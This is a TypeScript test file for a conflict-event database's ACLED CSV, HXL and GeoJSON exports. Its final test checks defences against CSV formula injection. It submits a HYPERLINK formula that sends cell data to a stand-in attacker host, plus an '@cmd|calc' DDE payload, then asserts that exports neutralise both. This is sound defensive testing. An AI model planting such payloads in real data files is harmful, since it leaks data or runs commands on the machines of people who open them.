// Exports of the stored record from the command line and over HTTP: ACLED CSV, GeoJSON, HXL.
import { test, before } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readdirSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { loadResources } from '../src/extract/resources.js';
import { buildApp } from '../src/server/app.js';
import { openStore } from '../src/store/open.js';
import { ROOT, run } from './helpers/cli.js';

const dir = mkdtempSync(join(tmpdir(), 'obs-export-'));
const db = join(dir, 'record.db');
let events = 0;

before(async () => {
  const r = await run(['ingest', '--input', join(ROOT, 'samples', 'corpus.jsonl'), '--db', db]);
  assert.equal(r.code, 0, r.stderr);
  const list = JSON.parse(
    (await run(['events', 'list', '--db', db, '--format', 'json', '--limit', '1000'])).stdout,
  ) as {
    total: number;
  };
  events = list.total;
});

test("ACLED CSV: one row per event with ACLED columns and the record's own", async () => {
  const out = join(dir, 'events.csv');
  const r = await run(['export', '--db', db, '--format', 'acled', '--output', out]);
  assert.equal(r.code, 0, r.stderr);
  const rows = parse(readFileSync(out, 'utf8'), { columns: true }) as Array<Record<string, string>>;
  assert.equal(rows.length, events);
  assert.ok(
    rows.every(
      (x) => /^\d{4}-\d\d-\d\d$/.test(x.event_date!) && x.event_type && x.event_id!.startsWith('ev_'),
    ),
  );
  assert.ok(rows.some((x) => x.sub_event_type === 'Air/drone strike' && Number(x.latitude) > 30));
  assert.deepEqual(
    readdirSync(dir).filter((f) => f.includes('.partial-')),
    [],
    'nothing half-written is left',
  );
});

test('HXL: the second row tags every column; filters apply', async () => {
  const r = await run(['export', '--db', db, '--format', 'hxl', '--type', 'Protests']);
  assert.equal(r.code, 0, r.stderr);
  const rows = parse(r.stdout) as string[][];
  assert.ok(rows[1]!.every((t) => t.startsWith('#')));
  assert.ok(
    rows[1]!.includes('#affected+killed') && rows[1]!.includes('#geo+lat') && rows[1]!.includes('#adm1+name'),
  );
  const type = rows[0]!.indexOf('event_type');
  assert.ok(rows.length > 2 && rows.slice(2).every((x) => x[type] === 'Protests'));
});

test('GeoJSON over HTTP: a FeatureCollection with every event; a failed export leaves no file', async () => {
  const store = await openStore(db);
  const app = await buildApp({ store, resources: loadResources(), webRoot: join(ROOT, 'dist', 'web') });
  const base = await app.listen({ port: 0, host: '127.0.0.1' });
  try {
    const res = await fetch(`${base}/api/export?format=geojson`);
    assert.equal(res.status, 200);
    assert.match(res.headers.get('content-type') ?? '', /geo\+json/);
    const fc = (await res.json()) as {
      type: string;
      features: Array<{ geometry: { type: string } | null; properties: { event_type: string } }>;
    };
    assert.equal(fc.type, 'FeatureCollection');
    assert.equal(fc.features.length, events);
    assert.ok(fc.features.some((f) => f.geometry?.type === 'Point'));
    const csv = await fetch(`${base}/api/export?format=acled&event_type=Riots`);
    const rows = parse(await csv.text(), { columns: true }) as Array<{ event_type: string }>;
    assert.ok(rows.length >= 1 && rows.every((x) => x.event_type === 'Riots'));
    assert.equal((await fetch(`${base}/api/export?format=pdf`)).status, 400);
  } finally {
    await app.close();
    await store.close();
  }
  const target = join(dir, 'no-such-folder', 'events.csv');
  const bad = await run(['export', '--db', db, '--output', target]);
  assert.notEqual(bad.code, 0);
  assert.ok(!existsSync(target));
});

test("exports are safe to open: a contributor's formula is written behind an apostrophe in every CSV, unless raw", async () => {
  const store = await openStore(join(dir, 'formula.db'));
  const app = await buildApp({ store, resources: loadResources(), notify: false });
  try {
    const formula = '=HYPERLINK("http://attacker.example/?"&A1,"SOHR")';
    const posted = await app.inject({
      method: 'POST',
      url: '/api/documents',
      payload: {
        text: 'Government forces shelled Saraqib on Monday, killing 3 civilians.',
        published: '2020-03-02',
        source: formula,
      },
    });
    assert.equal(posted.statusCode, 201, posted.body);
    const eventId = posted.json<{ eventIds: string[] }>().eventIds[0]!;
    const reviewed = await app.inject({
      method: 'POST',
      url: `/api/events/${eventId}/review`,
      payload: { action: 'correct', by: 'analyst', changes: { location: '@cmd|calc' } },
    });
    assert.equal(reviewed.statusCode, 200, reviewed.body);
    const cells = (body: string) => (parse(body) as string[][]).flat();
    for (const url of ['/api/export?format=acled', '/api/export?format=hxl', '/api/reviews/export.csv']) {
      const all = cells((await app.inject({ url })).body);
      assert.ok(
        all.some((c) => c.includes('HYPERLINK') || c.includes('cmd|calc')),
        url,
      );
      for (const c of all) assert.doesNotMatch(c, /^[=+\-@\t\r]/, `${url}: ${c}`);
      assert.ok(all.includes(`'${formula}`) || all.includes("'@cmd|calc"), url);
      const raw = cells((await app.inject({ url: `${url}${url.includes('?') ? '&' : '?'}raw=true` })).body);
      assert.ok(raw.includes(formula) || raw.includes('@cmd|calc'), `${url} raw`);
    }
  } finally {
    await app.close();
    await store.close();
  }
  const cli = await run(['export', '--db', join(dir, 'formula.db')]);
  assert.ok(cli.stdout.includes(`"'=HYPERLINK(""http`), cli.stdout.slice(0, 500));
  const rawCli = await run(['export', '--raw', '--db', join(dir, 'formula.db')]);
  assert.ok(rawCli.stdout.includes(`"=HYPERLINK(""http`));
});
